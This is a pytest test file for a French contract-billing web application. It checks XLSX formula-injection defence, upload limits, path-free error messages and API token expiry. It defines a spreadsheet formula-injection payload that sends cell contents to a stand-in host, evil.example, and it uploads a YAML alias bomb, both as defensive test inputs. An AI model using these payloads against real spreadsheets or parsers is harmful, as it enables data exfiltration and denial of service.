"""Exports and uploads through the web (issue 17): the invoice XLSX carries no live formula; ten
simultaneous barometer downloads are each whole and identical; an alias bomb, a contract over 2 MB, a
ZIP renamed ``.parquet`` are refused with their own code; errors name files, never server paths; API
tokens are listed, revoked and expire."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from tests.io.test_contract_yaml_limits import alias_bomb
from tests.web.conftest import World, build_world, csrf_of, login

from charte.demo.run import DemoResult, default_contract_path
from charte.domain.calendar import PARIS
from charte.io.contract_yaml import MAX_CONTRACT_BYTES
from charte.web.demo_tenants import CLIENT_FILES, PROVIDER_FILES

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def test_the_invoice_xlsx_of_a_contract_with_a_formula_for_a_name_has_no_live_formula(
        tmp_path: Path, demo: DemoResult) -> None:
    text = default_contract_path().read_text("utf-8").replace('"Accueil téléphonique clients particuliers"',
                                                              "'" + EVIL.replace("'", "''") + "'", 1)
    world = build_world(tmp_path, contract_text=text)
    provider = login(TestClient(world.app), world.logins["provider"])
    token = csrf_of(provider.get(f"/contracts/{world.contract_a}").text)
    # each party submits its own facts to the register (issue 14); the client's forecasts on 31 August, on time
    client = login(TestClient(world.app), world.logins["client"])
    for who, names in ((provider, PROVIDER_FILES), (client, CLIENT_FILES)):
        files = [("files", (name, (demo.out_dir / name).read_bytes(), "application/octet-stream")) for name in names]
        world.app.state.register_clock = lambda: datetime(2026, 8, 31, 9, tzinfo=PARIS)
        try:
            sent = who.post(f"/contracts/{world.contract_a}/facts", files=files,
                            data={"csrf_token": csrf_of(who.get(f"/contracts/{world.contract_a}").text),
                                  "period": "2026-10"})
        finally:
            world.app.state.register_clock = None
        assert sent.status_code == 200, sent.text[:500]
    location = f"/contracts/{world.contract_a}/settlements/2026-10"
    assert provider.post(f"/contracts/{world.contract_a}/settle", data={"csrf_token": token, "period": "2026-10"},
                         follow_redirects=False).status_code == 303
    assert provider.post(f"{location}/invoice", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    xlsx = provider.get(f"/contracts/{world.contract_a}/invoices/invoice-F000001.xlsx")
    assert xlsx.status_code == 200 and xlsx.headers["cache-control"] == "no-store"
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("'=HYPERLINK") for t in texts), "the activity's name reaches the XLSX, inert"
    assert not any(t.startswith("=") for t in texts)


@pytest.fixture(scope="module")
def server(world: World) -> Iterator[str]:
    """The application on a loopback port (the socket listens before the server thread starts: no sleeping)."""
    import uvicorn

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    served = uvicorn.Server(uvicorn.Config(world.app, log_level="warning"))
    thread = threading.Thread(target=served.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    served.should_exit = True
    thread.join(timeout=30)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ten_simultaneous_barometer_downloads_are_whole_and_identical(world: World, server: str, fmt: str) -> None:
    client = login(TestClient(world.app), world.logins["trade_body"])
    cookies = dict(client.cookies)

    def download(_: int) -> tuple[int, int | None, bytes]:
        with httpx.Client(base_url=server, cookies=cookies, timeout=120) as http:
            response = http.get(f"/observatory/barometer.{fmt}")
            length = response.headers.get("content-length")
            return response.status_code, int(length) if length else None, response.content

    with ThreadPoolExecutor(max_workers=10) as pool:
        results = list(pool.map(download, range(10)))
    assert {status for status, _, _ in results} == {200}
    assert all(length == len(body) for _, length, body in results)
    if fmt == "xlsx":  # a workbook records when it was written: compare what it holds
        for _, _, body in results:
            assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
        contents = {tuple((sheet.title, tuple(c.value for row in sheet.iter_rows() for c in row))
                          for sheet in load_workbook(io.BytesIO(body)).worksheets) for _, _, body in results}
        assert len(contents) == 1
    else:
        bodies = {body for _, _, body in results}
        assert len(bodies) == 1
        assert bodies.pop().decode().startswith("tableau,mesure,période,ligne,colonne,valeur,secret,évolution")


def test_an_alias_bomb_uploaded_as_a_contract_is_refused_by_its_code(world: World,
                                                                      clients: dict[str, TestClient]) -> None:
    provider = clients["provider"]
    token = csrf_of(provider.get("/contracts/new").text)
    response = provider.post("/contracts/new", data={"csrf_token": token},
                             files={"yaml_file": ("bomb.yaml", alias_bomb(6).encode(), "application/yaml")})
    assert response.status_code == 422
    assert "yaml_aliases_expand_too_far" in response.text
    api = TestClient(world.app).post("/api/contracts", headers={"Authorization": f"Bearer {world.tokens['provider']}"},
                                     json={"yaml": alias_bomb(6)})
    assert api.status_code == 422 and api.json()["detail"][0]["code"] == "yaml_aliases_expand_too_far"


def test_a_contract_over_2_mb_is_refused_with_the_limit_and_bad_bytes_are_named(clients: dict[str, TestClient]
                                                                                ) -> None:
    provider = clients["provider"]
    token = csrf_of(provider.get("/contracts/new").text)
    big = b"title: " + b"x" * MAX_CONTRACT_BYTES
    response = provider.post("/contracts/new", data={"csrf_token": token},
                             files={"yaml_file": ("big.yaml", big, "application/yaml")})
    assert response.status_code == 422
    assert "contract_too_large" in response.text and "2\u202f000\u202f000" not in response.text
    assert "2,000,000 bytes" in response.text and "missing_clause" not in response.text
    latin = provider.post("/contracts/new", data={"csrf_token": token},
                          files={"yaml_file": ("latin1.yaml", "title: Énergie".encode("latin-1"), "text/yaml")})
    assert latin.status_code == 422 and "not_utf8" in latin.text


def test_a_zip_renamed_parquet_is_refused_and_errors_show_no_server_path(world: World, tmp_path: Path) -> None:
    fresh = build_world(tmp_path)
    headers = {"Authorization": f"Bearer {fresh.tokens['provider']}"}
    api = TestClient(fresh.app)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("interval_report.csv", "a,b\n1,2\n")
    refused = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers, data={"period": "2026-10"},
                       files=[("files", ("interval_report.parquet", archive.getvalue()))])
    assert refused.status_code == 422
    assert refused.json()["detail"][0]["code"] == "not_parquet"  # the register reads the bytes (issue 14)
    assert "ZIP" in refused.json()["detail"][0]["message"]
    assert api.get(f"/api/contracts/{fresh.contract_a}/register", headers=headers).json() == []
    # a file whose bytes pass the sniffing but that Arrow cannot read: refused, the problem names the file only
    broken = b"PAR1" + b"\0" * 64 + b"PAR1"
    stored = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers, data={"period": "2026-10"},
                      files=[("files", ("interval_report.parquet", broken))])
    assert stored.status_code == 422 and "interval_report.parquet" in stored.text
    assert str(fresh.data_dir) not in stored.text and str(tmp_path) not in stored.text
    provider = login(TestClient(fresh.app), fresh.logins["provider"])
    page = provider.post(f"/contracts/{fresh.contract_a}/settle",
                         data={"csrf_token": csrf_of(provider.get("/contracts").text), "period": "2026-10"})
    assert page.status_code == 422
    assert str(fresh.data_dir) not in page.text and str(tmp_path) not in page.text
    assert "/facts/" not in page.text


def test_api_tokens_are_listed_revoked_and_expire(tmp_path: Path) -> None:
    world = build_world(tmp_path)
    clock_start = world.app.state.clock()
    moments = [clock_start]
    world.app.state.clock = lambda: moments[-1]
    provider = login(TestClient(world.app), world.logins["provider"])
    page = provider.post("/tokens", data={"csrf_token": csrf_of(provider.get("/tokens").text), "label": "ACD nightly",
                                          "days": "30"})
    token = page.text.split('data-testid="token"><code>')[1].split("<")[0]
    api = TestClient(world.app)
    headers = {"Authorization": f"Bearer {token}"}
    assert api.get("/api/contracts", headers=headers).status_code == 200
    listing = provider.get("/tokens").text
    assert "ACD nightly" in listing
    moments.append(clock_start + timedelta(days=30, seconds=1))
    assert api.get("/api/contracts", headers=headers).status_code == 401  # expired
    moments.append(clock_start)
    assert api.get("/api/contracts", headers=headers).status_code == 200
    token_id = listing.split('data-testid="token-')[1].split('"')[0]
    other = login(TestClient(world.app), world.logins["other_client"])
    assert other.post(f"/tokens/{token_id}/revoke",
                      data={"csrf_token": csrf_of(other.get("/tokens").text)}).status_code == 404
    assert api.get("/api/contracts", headers=headers).status_code == 200
    revoked = provider.post(f"/tokens/{token_id}/revoke", data={"csrf_token": csrf_of(provider.get("/tokens").text)},
                            follow_redirects=False)
    assert revoked.status_code == 303
    assert api.get("/api/contracts", headers=headers).status_code == 401
